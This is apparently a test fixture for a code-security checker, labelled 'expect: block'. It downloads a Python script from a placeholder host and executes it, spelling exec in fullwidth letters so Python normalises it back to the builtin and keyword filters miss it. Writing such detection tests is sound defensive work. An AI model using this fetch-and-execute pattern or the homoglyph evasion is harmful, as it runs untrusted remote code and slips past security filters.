# expect: block
# Fullwidth letters: Python NFKC-normalises this identifier to a builtin.
import urllib.request

src = urllib.request.urlopen("https://example.net/s.py", timeout=5).read().decode()
ｅｘｅｃ(src)
